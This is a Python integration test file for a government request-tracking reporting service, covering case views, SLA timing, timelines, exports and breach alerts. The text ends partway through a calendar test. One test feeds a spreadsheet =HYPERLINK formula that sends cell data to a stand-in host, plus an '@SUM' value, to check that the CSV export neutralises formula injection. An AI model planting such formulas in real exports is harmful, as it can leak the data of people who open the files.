"""The reporting service in-process over HTTP, on the real PostgreSQL and Kafka: the envelopes of
whole requests are published to intake's, approval's and dev_tracking's topics (sealed, with the
occurred_at instants of a hand-made week), and the case list, detail, timeline, as-of view,
exports, SLA rows, calendar and breaches are read back.

The service's clock is the test's (``SimClock``), set to just after the latest event of each
stage, so the working time of every step is known by hand (WIB office hours 07:30-15:30)."""

import asyncio
import csv
import datetime as dt
import io
import json
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any
from zoneinfo import ZoneInfo

import asyncpg
import httpx
import pytest
from aiokafka import AIOKafkaProducer

from events.approval import (
    BAsigned,
    Disposed,
    DocumentsVerified,
    MeetingHeld,
    Participant,
    RequestReturned,
    Signatory,
    TaskAssigned,
    Timeline,
)
from events.base import DomainEvent
from events.dev_tracking import (
    DevelopmentStarted,
    ManualPublished,
    ProblemRecorded,
    ProblemSolved,
    ProgressReported,
    RequestCompleted,
    TestPassed,
    UATAccepted,
)
from events.envelope import GENESIS_HASH, Actor, Envelope, NewEvent, OnBehalfOf, Role
from events.identity import DelegationEnded, DelegationGranted, RoleGranted, RoleRevoked
from events.intake import (
    Attachment,
    BusinessProcess,
    NeedsAnalysis,
    RequestLetter,
    RequestReceived,
    RequestRevised,
    RequestSubmitted,
    RequestWithdrawn,
)
from infra.auth import TokenIssuer, development_keys
from infra.consumer import Delivered
from infra.db import create_pool
from infra.eventstore.contract import seal_all
from infra.kafka_acl import ADMIN
from infra.principal import Principal
from infra.settings import Settings
from services.reporting.bootstrap import create_app
from services.reporting.config import ReportingConfig
from services.reporting.export import CSV_COLUMNS
from services.reporting.projector import Projector
from tests.idempotency_checks import Effects, check_racing_retries_act_once, check_retry_safe
from tests.kafka_helpers import eventually, read_topic

WIB = ZoneInfo("Asia/Jakarta")
RUN = uuid.uuid4().hex[:6].upper()
OPD = f"DISHUB-{RUN}"
OTHER_OPD = f"DISDIK-{RUN}"
DEPT = "DISKOMINFOSTANDI"

REQUESTER = Actor(user_id="u-pemohon", role="PEMOHON", opd=OPD)
KADIS = Actor(user_id="u-kadis", role="KADIS", opd=DEPT)
PLT_KADIS = Actor(
    user_id="u-sekdis",
    role="KADIS",
    opd=DEPT,
    on_behalf_of=OnBehalfOf(user_id="u-kadis", role="KADIS", kind="PLT"),
)
KABID = Actor(user_id="u-kabid", role="KABID_TI", opd=DEPT)
DEV = Actor(user_id="u-dev1", role="TIM_PENGEMBANG", opd=DEPT)
PDF = Attachment(sha256="ab" * 32, size_bytes=4096, media_type="application/pdf", filename="m.pdf")


def wib(day: str, hhmm: str) -> dt.datetime:
    """An instant in Katingan's local time, e.g. ``wib("2024-03-04", "08:00")``."""
    return dt.datetime.fromisoformat(f"{day}T{hhmm}:00").replace(tzinfo=WIB)


@dataclass
class SimClock:
    now: dt.datetime = field(default_factory=lambda: wib("2024-03-04", "07:00"))

    def __call__(self) -> dt.datetime:
        return self.now


@dataclass
class Reporting:
    client: httpx.AsyncClient
    issuer: TokenIssuer
    producer: AIOKafkaProducer
    db: asyncpg.Connection
    settings: Settings
    clock: SimClock
    heads: dict[tuple[str, str], tuple[int, str]] = field(default_factory=dict)
    published: dict[str, int] = field(default_factory=dict)
    sent: dict[str, list[Envelope]] = field(default_factory=dict)

    def headers(
        self,
        role: Role,
        opd: str | None = None,
        delegations: tuple[OnBehalfOf, ...] = (),
    ) -> dict[str, str]:
        home = opd or (OPD if role == "PEMOHON" else DEPT)
        principal = Principal(
            user_id=f"u-{role.lower()}-{home.lower()}",
            name=role.title(),
            roles=frozenset({role}),
            opd=home,
            delegations=delegations,
        )
        return {"Authorization": f"Bearer {self.issuer.issue(principal)}"}

    async def get(self, path: str, role: Role = "AUDITOR", **params: Any) -> httpx.Response:
        opd = params.pop("as_opd", None)
        return await self.client.get(path, params=params, headers=self.headers(role, opd))

    async def ok(self, path: str, role: Role = "AUDITOR", **params: Any) -> Any:
        answer = await self.get(path, role, **params)
        assert answer.status_code == 200, answer.text
        return answer.json()

    async def emit(
        self, service: str, request_id: str, at: dt.datetime, actor: Actor, event: DomainEvent
    ) -> Envelope:
        """Publish one event as ``service``'s relay would: sealed in the service's stream."""
        version, prev = self.heads.get((service, request_id), (0, GENESIS_HASH))
        new = NewEvent.of(
            event,
            occurred_at=at,
            actor=actor,
            correlation_id=uuid.uuid4(),
        )
        [envelope] = seal_all(request_id, version, prev, [new])
        self.heads[(service, request_id)] = (envelope.stream_version, envelope.hash)
        await self.send(service, envelope)
        self.published[request_id] = self.published.get(request_id, 0) + 1
        self.sent.setdefault(request_id, []).append(envelope)
        return envelope

    async def send(self, service: str, envelope: Envelope) -> None:
        await self.producer.send_and_wait(
            f"jejak.{service}.events",
            envelope.model_dump_json().encode(),
            key=envelope.stream_id.encode(),
        )

    async def stored(self, request_id: str) -> int:
        return int(
            await self.db.fetchval(
                "SELECT count(*) FROM reporting.case_events WHERE request_id = $1 "
                "AND service <> 'reporting'",
                request_id,
            )
        )

    async def settle(self, request_id: str) -> None:
        """Wait until reporting has projected every event published for the request."""
        expected = self.published.get(request_id, 0)

        async def done() -> bool:
            return await self.stored(request_id) >= expected

        assert await eventually(done, timeout=90), f"reporting did not project {request_id}"

    async def case(self, request_id: str, role: Role = "AUDITOR") -> dict[str, Any]:
        result: dict[str, Any] = await self.ok(f"/cases/{request_id}", role)
        return result

    async def step_clock(self, request_id: str, opd: str) -> tuple[int, int]:
        """The list's working minutes used on the request's current step, and its standard."""
        page = await self.ok("/cases", opd=opd, limit=500)
        [item] = [i for i in page["items"] if i["request_id"] == request_id]
        return item["step_used_minutes"], item["step_standard_minutes"]

    async def listed(self, role: Role = "AUDITOR", **filters: Any) -> list[str]:
        page = await self.ok("/cases", role, limit=500, **filters)
        return [item["request_id"] for item in page["items"]]


@pytest.fixture(scope="module")
async def reporting(
    settings: Settings, owner_settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Reporting]:
    keys = tmp_path_factory.mktemp("keys")
    private, _ = development_keys(keys)
    configured = settings.model_copy(update={"jwt_key_dir": str(keys)})
    clock = SimClock()
    app = create_app(configured, ReportingConfig(breach_interval_seconds=0.2), clock=clock)
    producer = AIOKafkaProducer(**settings.kafka_login(ADMIN).options(), acks="all")
    async with app.router.lifespan_context(app):
        await producer.start()
        db = await asyncpg.connect(owner_settings.database_url)
        transport = httpx.ASGITransport(app=app)
        try:
            async with httpx.AsyncClient(transport=transport, base_url="http://reporting") as c:
                yield Reporting(c, TokenIssuer(private), producer, db, configured, clock)
        finally:
            await db.close()
            await producer.stop()


def submitted(request_id: str, opd: str, title: str = "SI Perizinan Dishub") -> RequestSubmitted:
    return RequestSubmitted(
        request_id=request_id,
        opd=opd,
        title=title,
        summary="Perizinan trayek angkutan secara daring.",
        letter=RequestLetter(number=f"550/01/{opd}/2024", date=dt.date(2024, 3, 1)),
        needs_analysis=NeedsAnalysis(),
        business_process=BusinessProcess(),
        submitted_via="WEB",
    )


async def open_request(
    r: Reporting, opd: str, day: str, submit: str, receive: str, title: str = "SI Perizinan"
) -> str:
    """A request submitted and received (at DISPOSE) on ``day``."""
    rid = str(uuid.uuid4())
    requester = REQUESTER.model_copy(update={"opd": opd})
    await r.emit("intake", rid, wib(day, submit), requester, submitted(rid, opd, title))
    received = RequestReceived(request_id=rid, received_by="u-kadis", agenda_number="AG-1")
    await r.emit("intake", rid, wib(day, receive), KADIS, received)
    return rid


def row(case: dict[str, Any], step: str, attempt: int = 1) -> dict[str, Any]:
    found: dict[str, Any] = next(
        r for r in case["sla"]["rows"] if (r["step"], r["attempt"]) == (step, attempt)
    )
    return found


def instant(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text)


# A full request, stage by stage (the week of Monday 4 March 2024, no holidays) ----------------

DAY1, DAY2, DAY3, DAY4 = "2024-03-04", "2024-03-05", "2024-03-06", "2024-03-07"


@pytest.fixture(scope="module")
async def full_request(reporting: Reporting) -> str:
    """Drive one request through the SOP, checking list and detail at each stage; returns its id
    for the audit tests."""
    r = reporting
    r.clock.now = wib(DAY1, "08:04")
    rid = await open_request(r, OPD, DAY1, "08:00", "08:03", title="SI Perizinan Dishub")
    await r.settle(rid)

    # Stage A: received, waiting on KADIS's disposition.
    case = await r.case(rid)
    assert (case["status"], case["current_step"]["code"], case["who_must_act"]) == (
        "OPEN",
        "DISPOSE",
        "KADIS",
    )
    assert [d["kind"] for d in case["documents"]] == ["REQUEST_LETTER"]
    assert (row(case, "RECEIVE")["status"], row(case, "RECEIVE")["used_minutes"]) == ("ON_TIME", 3)
    assert (row(case, "DISPOSE")["status"], row(case, "DISPOSE")["used_minutes"]) == ("RUNNING", 1)
    assert await r.step_clock(rid, OPD) == (1, row(case, "DISPOSE")["standard_minutes"])
    assert rid in await r.listed(opd=OPD, current_step="DISPOSE", responsible_role="KADIS")
    assert rid in await r.listed(opd=OPD, overdue="false")

    # Stage B: dispositioned late by a Plt, then returned to the requester. (The clock moves
    # once the events are in: were it past a due instant first, the watcher would breach.)
    disposed = Disposed(
        request_id=rid, to_role="KABID_TI", note="Proses.", disposition_number="DISP/7/2024"
    )
    await r.emit("approval", rid, wib(DAY1, "08:20"), PLT_KADIS, disposed)
    returned = RequestReturned(
        request_id=rid,
        reasons=("Alur sistem belum diisi",),
        missing_sections=("business_process.system_flow",),
    )
    await r.emit("approval", rid, wib(DAY1, "08:30"), KABID, returned)
    await r.settle(rid)
    r.clock.now = wib(DAY1, "09:00")
    case = await r.case(rid)
    assert (case["status"], case["current_step"]["code"], case["who_must_act"]) == (
        "RETURNED",
        "VERIFY",
        "PEMOHON",
    )
    dispose = row(case, "DISPOSE")
    assert (dispose["status"], dispose["used_minutes"]) == ("LATE", 17)
    assert instant(dispose["due_at"]) == wib(DAY1, "08:08")
    verify = row(case, "VERIFY")
    assert (verify["status"], verify["used_minutes"], verify["paused_minutes"]) == (
        "PAUSED",
        10,
        30,
    )
    assert verify["due_at"] is None
    assert await r.step_clock(rid, OPD) == (10, verify["standard_minutes"])
    r.clock.now = wib(DAY1, "09:25")  # the requester's wait does not count on the KABID_TI's clock
    assert await r.step_clock(rid, OPD) == (10, verify["standard_minutes"])
    r.clock.now = wib(DAY1, "09:00")
    assert [(instant(p["started_at"]), p["ended_at"]) for p in verify["pauses"]] == [
        (wib(DAY1, "08:30"), None)
    ]
    assert rid in await r.listed(status="RETURNED", responsible_role="PEMOHON", opd=OPD)
    assert rid not in await r.listed(responsible_role="KABID_TI", opd=OPD)
    either = {"status": ["OPEN", "RETURNED"], "opd": OPD}  # an inbox asks for several at once
    assert rid in await r.listed(responsible_role=["KABID_TI", "PEMOHON"], **either)
    assert rid not in await r.listed(responsible_role=["KABID_TI", "KADIS"], **either)
    assert rid not in await r.listed(status=["OPEN", "COMPLETED"], opd=OPD)

    # Stage C: revised, verified, meeting, minutes signed, team assigned.
    revised = RequestRevised(request_id=rid, title="SI Perizinan Dishub v2", note="Dilengkapi.")
    await r.emit("intake", rid, wib(DAY1, "10:00"), REQUESTER, revised)
    await r.emit("approval", rid, wib(DAY1, "10:04"), KABID, DocumentsVerified(request_id=rid))
    meeting = MeetingHeld(
        request_id=rid,
        held_at=wib(DAY1, "10:30"),
        participants=(Participant(name="Budi", position="Kabid TI", organisation=DEPT),),
        scope="Perizinan trayek.",
        timeline=Timeline(planned_start=dt.date(2024, 3, 5), planned_end=dt.date(2024, 4, 30)),
        minutes_number="BA-DRAFT/1",
    )
    await r.emit("approval", rid, wib(DAY1, "11:00"), KABID, meeting)
    signed = BAsigned(
        request_id=rid,
        minutes_number="BA/1/2024",
        signatories=(
            Signatory(user_id="u-kabid", name="Budi", role="KABID_TI"),
            Signatory(user_id="u-pemohon", name="Sari", role="PEMOHON"),
        ),
    )
    await r.emit("approval", rid, wib(DAY1, "11:03"), KABID, signed)
    assigned = TaskAssigned(
        request_id=rid,
        letter_number="ST/1/2024",
        team_members=("u-dev1", "u-dev2"),
        team_lead="u-dev1",
        opd=OPD,
        period_start=dt.date(2024, 3, 5),
        period_end=dt.date(2024, 4, 30),
    )
    await r.emit("approval", rid, wib(DAY1, "11:20"), KADIS, assigned)
    await r.settle(rid)
    r.clock.now = wib(DAY1, "11:30")
    case = await r.case(rid)
    assert (case["status"], case["current_step"]["code"], case["who_must_act"]) == (
        "OPEN",
        "DEVELOP",
        "TIM_PENGEMBANG",
    )
    assert case["title"] == "SI Perizinan Dishub v2"
    assert [d["kind"] for d in case["documents"]] == [
        "REQUEST_LETTER",
        "DISPOSITION",
        "DRAFT_MINUTES",
        "MINUTES",
        "ASSIGNMENT_LETTER",
    ]
    assert case["team"]["letter_number"] == "ST/1/2024"
    verify = row(case, "VERIFY")
    assert (verify["status"], verify["used_minutes"], verify["paused_minutes"]) == (
        "ON_TIME",
        14,
        90,
    )
    assert [(instant(p["started_at"]), instant(p["ended_at"])) for p in verify["pauses"]] == [
        (wib(DAY1, "08:30"), wib(DAY1, "10:00"))
    ]
    assert rid in await r.listed(current_step="DEVELOP", opd=OPD)
    assert rid not in await r.listed(current_step="VERIFY", opd=OPD)

    # Stage D: development, a problem and its solution, tests, manual, UAT, completion.
    dev: list[tuple[str, str, Actor, DomainEvent]] = [
        (DAY2, "08:00", DEV, DevelopmentStarted(request_id=rid, started_on=dt.date(2024, 3, 5))),
        (DAY2, "13:00", DEV, ProgressReported(request_id=rid, percent=60, note="Modul izin.")),
        (
            DAY2,
            "14:00",
            DEV,
            ProblemRecorded(
                request_id=rid, problem_id="P-1", description="Server lambat.", severity="HIGH"
            ),
        ),
        (DAY2, "15:00", DEV, ProblemSolved(request_id=rid, problem_id="P-1", solution="RAM.")),
        *(
            (
                DAY3,
                at,
                DEV,
                TestPassed(
                    request_id=rid,
                    kind=kind,  # type: ignore[arg-type]
                    minutes_number=f"BA-{kind}/1",
                    tested_on=dt.date(2024, 3, 6),
                ),
            )
            for at, kind in (("08:00", "SYSTEM"), ("09:00", "UNIT"), ("10:00", "INTEGRATION"))
        ),
        (
            DAY3,
            "13:00",
            DEV,
            ManualPublished(request_id=rid, title="Manual SI Perizinan", document=PDF, version="1"),
        ),
        (
            DAY4,
            "09:00",
            REQUESTER,
            UATAccepted(request_id=rid, minutes_number="BA-UAT/1", accepted_by="u-pemohon"),
        ),
        (
            DAY4,
            "09:00",
            REQUESTER,
            RequestCompleted(request_id=rid, completed_on=dt.date(2024, 3, 7)),
        ),
    ]
    for day, at, actor, event in dev:
        await r.emit("dev_tracking", rid, wib(day, at), actor, event)
    await r.settle(rid)
    r.clock.now = wib(DAY4, "10:00")
    case = await r.case(rid)
    assert (case["status"], case["current_step"]["code"], case["who_must_act"]) == (
        "COMPLETED",
        "DONE",
        None,
    )
    assert case["progress"]["sop_percent"] == 100
    assert case["progress"]["reported_percent"] == 60
    assert [(p["problem_id"], p["solution"]) for p in case["problems"]] == [("P-1", "RAM.")]
    assert [d["kind"] for d in case["documents"]][5:] == [
        "TEST_MINUTES",
        "TEST_MINUTES",
        "TEST_MINUTES",
        "MANUAL",
        "UAT_MINUTES",
    ]
    sla = case["sla"]
    # Mon 08:00 -> Thu 09:00: 450 + 480 + 480 + 90 office minutes; 90 of them waiting.
    assert (sla["lead_minutes"], sla["waiting_minutes"], sla["net_lead_minutes"]) == (
        1500,
        90,
        1410,
    )
    assert [(x["step"], x["status"]) for x in sla["rows"]] == [
        ("RECEIVE", "ON_TIME"),
        ("DISPOSE", "LATE"),
        ("VERIFY", "ON_TIME"),
        ("MEETING", "ON_TIME"),
        ("SIGN_MINUTES", "ON_TIME"),
        ("ASSIGN", "ON_TIME"),
        ("DEVELOP", "ON_TIME"),
        ("UNIT_TEST", "ON_TIME"),
        ("INTEGRATION_TEST", "ON_TIME"),
        ("MANUAL", "ON_TIME"),
        ("UAT", "ON_TIME"),
    ]
    assert row(case, "UAT")["used_minutes"] == 150 + 90
    assert rid in await r.listed(status="COMPLETED", opd=OPD)
    return rid


YEAR_2024 = {"submitted_from": "2024-01-01T00:00:00+07:00", "submitted_to": "2024-12-01T00:00Z"}


async def test_a_full_request_at_every_stage_and_the_sla_report(
    reporting: Reporting, full_request: str
) -> None:
    report = await reporting.ok("/reports/sla", "KADIS", opd=OPD, **YEAR_2024)
    assert report["requests"] == 1
    [mine] = report["by_opd"]
    assert (mine["key"], mine["finished"], mine["on_time"]) == (OPD, 11, 10)
    assert (mine["measured"], mine["median_minutes"], mine["p90_minutes"]) == (1, 1500, 1500)
    steps = {s["key"]: s for s in report["by_step"]}
    assert (steps["DISPOSE"]["share_on_time"], steps["MEETING"]["share_on_time"]) == (0.0, 1.0)
    assert steps["DISPOSE"]["median_minutes"] == 17
    assert report["by_opd_and_step"][OPD][0]["key"] == "RECEIVE"
    assert report["lead_time"]["median_minutes"] == 1500
    # A requester sees its own OPD's figures only.
    other = await reporting.get("/reports/sla", "PEMOHON", opd=OTHER_OPD, **YEAR_2024)
    assert other.status_code == 403
    own = await reporting.ok("/reports/sla", "PEMOHON", **YEAR_2024)
    assert own["opd"] == OPD and own["requests"] == 1
    later = {"submitted_from": "2025-01-01T00:00:00+07:00", "submitted_to": "2025-02-01T00:00Z"}
    assert (await reporting.ok("/reports/sla", "KADIS", **later))["requests"] == 0


async def test_the_sla_report_requires_a_bounded_period(reporting: Reporting) -> None:
    """Issue 17, item 9: no SLA report over the whole history: both ends required, the end
    after the start, at most a year (REPORTING_SLA_REPORT_MAX_DAYS) apart; each refusal a 422
    naming the field, in Indonesian."""
    missing = await reporting.get("/reports/sla", "KADIS")
    assert missing.status_code == 422
    named = {e["field"] for e in missing.json()["errors"]}
    assert named == {"query.submitted_from", "query.submitted_to"}
    start = "2024-01-01T00:00:00+07:00"
    wide = await reporting.get(
        "/reports/sla", "KADIS", submitted_from=start, submitted_to="2025-01-02T00:00:00+07:00"
    )
    assert (wide.status_code, wide.json()["field"]) == (422, "query.submitted_to")
    assert "paling panjang 366 hari, bukan 367 hari" in wide.json()["message"]
    backwards = await reporting.get(
        "/reports/sla", "KADIS", submitted_from=start, submitted_to="2023-12-31T00:00:00+07:00"
    )
    assert (backwards.status_code, backwards.json()["field"]) == (422, "query.submitted_to")
    assert "harus sesudah awalnya" in backwards.json()["message"]
    year = await reporting.get(
        "/reports/sla", "KADIS", submitted_from=start, submitted_to="2024-12-31T00:00:00+07:00"
    )
    assert year.status_code == 200, year.text


async def test_the_timeline_names_who_in_which_role_and_on_whose_behalf(
    reporting: Reporting, full_request: str
) -> None:
    rid = full_request
    timeline = await reporting.ok(f"/cases/{rid}/timeline")
    entries = timeline["entries"]
    assert len(entries) == 19
    assert [e["event_type"] for e in entries[:4]] == [
        "RequestSubmitted",
        "RequestReceived",
        "Disposed",
        "RequestReturned",
    ]
    disposed = entries[2]
    assert disposed["who"]["user_id"] == "u-sekdis"
    assert disposed["who"]["role"] == "KADIS"
    assert disposed["who"]["on_behalf_of"] == {"user_id": "u-kadis", "role": "KADIS", "kind": "PLT"}
    assert disposed["who"]["acting_label"] == "Plt. KADIS"
    assert "a.n. u-kadis" in disposed["who"]["display"]
    assert disposed["document_numbers"] == ["DISP/7/2024"]
    assert instant(disposed["at"]) == wib(DAY1, "08:20")
    assert entries[0]["document_numbers"] == [f"550/01/{OPD}/2024"]
    assert entries[1]["who"]["acting_label"] is None
    assert entries[-1]["event_type"] == "RequestCompleted"

    assert (await reporting.get(f"/cases/{rid}/timeline", "PEMOHON")).status_code == 200
    stranger = await reporting.get(f"/cases/{rid}/timeline", "PEMOHON", as_opd=OTHER_OPD)
    assert stranger.status_code == 403
    assert (await reporting.get(f"/cases/{rid}/timeline", "ADMIN")).status_code == 403
    assert (await reporting.get(f"/cases/{rid}/timeline", "KABID_TI")).status_code == 200

    together = await reporting.ok(f"/cases/{rid}", timeline="true")  # one read for a page
    assert together["timeline"] == entries
    assert together["current_step"]["code"] == "DONE"
    assert "timeline" not in await reporting.ok(f"/cases/{rid}")
    refused = await reporting.get(f"/cases/{rid}", "PEMOHON", as_opd=OTHER_OPD, timeline="true")
    assert refused.status_code == 403


async def test_the_case_as_of_a_past_instant(reporting: Reporting, full_request: str) -> None:
    rid = full_request
    before = await reporting.ok(f"/cases/{rid}/as-of", at=wib(DAY1, "08:25").isoformat())
    assert (before["status"], before["current_step"]["code"], before["who_must_act"]) == (
        "OPEN",
        "VERIFY",
        "KABID_TI",
    )
    assert [d["kind"] for d in before["documents"]] == ["REQUEST_LETTER", "DISPOSITION"]
    assert len(before["timeline"]) == 3
    verify = row(before, "VERIFY")
    assert (verify["status"], verify["used_minutes"]) == ("RUNNING", 5)
    returned = await reporting.ok(f"/cases/{rid}/as-of", at="2024-03-04T02:00:00Z")
    assert (returned["status"], returned["who_must_act"]) == ("RETURNED", "PEMOHON")
    absent = await reporting.ok(f"/cases/{rid}/as-of", at=wib(DAY1, "07:00").isoformat())
    assert absent["status"] == "ABSENT" and absent["timeline"] == []

    naive = await reporting.get(f"/cases/{rid}/as-of", at="2024-03-04T08:25:00")
    assert naive.status_code == 422
    assert [e["field"] for e in naive.json()["errors"]] == ["query.at"]
    missing = await reporting.get(f"/cases/{rid}/as-of")
    assert missing.status_code == 422
    assert [e["field"] for e in missing.json()["errors"]] == ["query.at"]


async def test_the_export_holds_every_envelope_with_its_hash_chain(
    reporting: Reporting, full_request: str
) -> None:
    rid = full_request
    answer = await reporting.get(f"/cases/{rid}/export.json")
    assert answer.status_code == 200
    assert f'filename="{rid}.json"' in answer.headers["content-disposition"]
    body = answer.json()
    assert (body["request_id"], body["event_count"], body["opd"]) == (rid, 19, OPD)
    assert {c["service"]: (c["events"], c["intact"]) for c in body["chains"]} == {
        "intake": (3, True),
        "approval": (6, True),
        "dev_tracking": (10, True),
    }
    events = body["events"]
    assert len({e["event_id"] for e in events}) == 19
    first_intake = next(e for e in events if e["service"] == "intake")
    assert (first_intake["stream_version"], first_intake["prev_hash"]) == (1, GENESIS_HASH)
    disposed = next(e for e in events if e["event_type"] == "Disposed")
    assert disposed["actor"]["on_behalf_of"]["kind"] == "PLT"
    assert disposed["payload"]["disposition_number"] == "DISP/7/2024"
    sent = {str(e.event_id): (e.prev_hash, e.hash) for e in reporting.sent[rid]}
    assert {e["event_id"]: (e["prev_hash"], e["hash"]) for e in events} == sent
    assert {"stream_id", "occurred_at", "tenant", "correlation_id", "schema_version"} <= set(
        disposed
    )

    csv_answer = await reporting.get(f"/cases/{rid}/export.csv")
    assert csv_answer.status_code == 200
    assert csv_answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(csv_answer.text)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 19
    plt = next(x for x in rows if x["event_type"] == "Disposed")
    assert (plt["actor_user_id"], plt["on_behalf_of_user_id"], plt["acting_label"]) == (
        "u-sekdis",
        "u-kadis",
        "Plt. KADIS",
    )
    assert plt["hash"] == disposed["hash"] and plt["prev_hash"] == disposed["prev_hash"]
    assert json.loads(plt["payload"])["note"] == "Proses."
    assert (await reporting.get(f"/cases/{rid}/export.csv", "ADMIN")).status_code == 403


async def test_no_cell_of_the_csv_export_is_a_formula(reporting: Reporting) -> None:
    """Numbers typed by a requester and an office become cells: one that starts a formula gets
    an apostrophe in front (``infra.spreadsheet``), and nothing else changes."""
    r = reporting
    r.clock.now = wib(DAY1, "08:02")  # before the disposition is due: no breach joins the rows
    rid = str(uuid.uuid4())
    letter = RequestLetter(
        number='=HYPERLINK("http://x.example/?"&A1,"klik")', date=dt.date(2024, 3, 1)
    )
    request = submitted(rid, OPD).model_copy(update={"letter": letter})
    await r.emit("intake", rid, wib(DAY1, "08:00"), REQUESTER, request)
    received = RequestReceived(request_id=rid, received_by="u-kadis", agenda_number="@SUM(1+1)")
    await r.emit("intake", rid, wib(DAY1, "08:01"), KADIS, received)
    await r.settle(rid)
    answer = await r.get(f"/cases/{rid}/export.csv")
    assert answer.status_code == 200
    cells = [cell for line in csv.reader(io.StringIO(answer.text)) for cell in line]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    numbers = [row["document_numbers"] for row in csv.DictReader(io.StringIO(answer.text))]
    assert numbers == ["'" + letter.number, "'@SUM(1+1)"]


# Isolation, paging and bad input ----------------------------------------------------------------


async def test_a_requester_sees_only_its_own_opd(reporting: Reporting, full_request: str) -> None:
    r = reporting
    r.clock.now = wib("2024-03-13", "08:00")
    first = await open_request(r, OTHER_OPD, "2024-03-13", "08:00", "08:01")
    second = await open_request(r, OTHER_OPD, "2024-03-13", "08:02", "08:03")
    await r.settle(first)
    await r.settle(second)
    r.clock.now = wib("2024-03-13", "08:05")

    mine = await r.ok("/cases", "PEMOHON", limit=500)
    assert full_request in {i["request_id"] for i in mine["items"]}
    assert {i["opd"] for i in mine["items"]} == {OPD}
    theirs = await r.listed("PEMOHON", as_opd=OTHER_OPD)
    assert set(theirs) == {first, second}
    assert (await r.get("/cases", "PEMOHON", opd=OTHER_OPD)).status_code == 403
    assert (await r.get(f"/cases/{first}", "PEMOHON")).status_code == 403
    assert (await r.get(f"/cases/{first}", "PEMOHON", as_opd=OTHER_OPD)).status_code == 200
    for role in ("KADIS", "KABID_TI", "TIM_PENGEMBANG", "AUDITOR"):
        assert set(await r.listed(role, opd=OTHER_OPD)) == {first, second}, role
    assert (await r.get("/cases", "ADMIN")).status_code == 403  # ADMIN sees no request

    page1 = await r.ok("/cases", "KABID_TI", opd=OTHER_OPD, limit=1)
    page2 = await r.ok("/cases", "KABID_TI", opd=OTHER_OPD, limit=1, offset=1)
    assert (page1["total"], page2["total"]) == (2, 2)
    assert [page1["items"][0]["request_id"], page2["items"][0]["request_id"]] == [second, first]
    item = page1["items"][0]
    assert (item["status"], item["current_step"], item["responsible_role"]) == (
        "OPEN",
        "DISPOSE",
        "KADIS",
    )
    assert (item["overdue"], instant(item["due_at"])) == (False, wib("2024-03-13", "08:08"))

    unknown = await r.get(f"/cases/{uuid.uuid4()}")
    assert (unknown.status_code, unknown.json()["field"]) == (404, "request_id")
    bad = await r.get("/cases", status="LOST", limit=0)
    assert bad.status_code == 422
    assert {e["field"] for e in bad.json()["errors"]} == {"query.status.0", "query.limit"}
    assert (await r.client.get("/cases")).status_code == 401
    assert (await r.get("/cases/-bad id-")).status_code == 422


# SLA breach -------------------------------------------------------------------------------------


async def test_a_breach_emits_one_sla_breached_and_notifies(reporting: Reporting) -> None:
    r = reporting
    opd = f"DISPAR-{RUN}"
    day = "2024-04-02"
    r.clock.now = wib(day, "08:00")
    rid = await open_request(r, opd, day, "08:00", "08:02")
    await r.emit(
        "approval",
        rid,
        wib(day, "08:04"),
        KADIS,
        Disposed(request_id=rid, to_role="KABID_TI", note="Proses."),
    )
    await r.settle(rid)
    assert await r.listed(opd=opd, overdue="true") == []
    assert await r.listed(opd=opd, overdue="false") == [rid]
    case = await r.case(rid)
    assert instant(row(case, "VERIFY")["due_at"]) == wib(day, "08:19")

    r.clock.now = wib(day, "09:00")
    assert await r.listed(opd=opd, overdue="true") == [rid]

    async def breaches() -> list[dict[str, Any]]:
        records = await read_topic(
            r.settings.kafka_login(ADMIN), "jejak.reporting.events", 1, timeout=5
        )
        return [
            json.loads(x.value)
            for x in records
            if x.key == rid.encode() and json.loads(x.value)["event_type"] == "SlaBreached"
        ]

    found: list[dict[str, Any]] = []

    async def emitted() -> bool:
        found[:] = await breaches()
        return bool(found)

    assert await eventually(emitted, timeout=60)

    async def in_timeline() -> bool:
        entries = (await r.ok(f"/cases/{rid}/timeline"))["entries"]
        return any(e["event_type"] == "SlaBreached" for e in entries)

    assert await eventually(in_timeline, timeout=60)
    await asyncio.sleep(1.5)  # several more looks of the watcher (every 0.2 s)
    [breach] = await breaches()
    payload = breach["payload"]
    assert (payload["request_id"], payload["step"]) == (rid, "VERIFY")
    assert instant(payload["due_at"]) == wib(day, "08:19")
    assert instant(payload["breached_at"]) == wib(day, "09:00")
    assert (payload["responsible_role"], payload["supervisor_role"]) == ("KABID_TI", "KADIS")
    assert breach["actor"] == {
        "user_id": "reporting",
        "role": "SYSTEM",
        "opd": None,
        "on_behalf_of": None,
    }
    entry = next(
        e
        for e in (await r.ok(f"/cases/{rid}/timeline"))["entries"]
        if e["event_type"] == "SlaBreached"
    )
    assert (entry["who"]["role"], entry["step"]) == ("SYSTEM", "VERIFY")
    case = await r.case(rid)
    assert case["sla"]["overdue"] is True
    assert row(case, "VERIFY")["status"] == "RUNNING_LATE"
    notified = await r.db.fetch(
        "SELECT role FROM reporting.notices WHERE request_id = $1 AND kind = 'SLA_BREACH'", rid
    )
    assert sorted(n["role"] for n in notified) == ["KABID_TI", "KADIS"]
    assert (
        await r.db.fetchval(
            "SELECT count(*) FROM reporting.sla_breaches WHERE request_id = $1", rid
        )
        == 1
    )


# The admin's calendar ---------------------------------------------------------------------------


async def test_an_admin_day_off_moves_the_due_date(reporting: Reporting) -> None:
    r = reporting
    opd = f"DISPORA-{RUN}"
    day = "2024-05-03"  # a Friday; the meeting's 180 minutes run 30 on Friday, 150 on Monday
    r.clock.now = wib(day, "13:00")
    rid = await open_request(r, opd, day, "13:00", "13:02")
    await r.emit(
        "approval",
        rid,
        wib(day, "13:04"),
        KADIS,
        Disposed(request_id=rid, to_role="KABID_TI", note="Proses."),
    )
    await r.emit("approval", rid, wib(day, "15:00"), KABID, DocumentsVerified(request_id=rid))
    await r.settle(rid)
    r.clock.now = wib(day, "15:10")

    async def due() -> dt.datetime:
        return instant(row(await r.case(rid), "MEETING")["due_at"])

    assert await due() == wib("2024-05-06", "10:00")
    [listed] = (await r.ok("/cases", opd=opd))["items"]
    assert instant(listed["due_at"]) == wib("2024-05-06", "10:00")

    edit = {"day": "2024-05-06", "off": True, "note": "Libur daerah"}
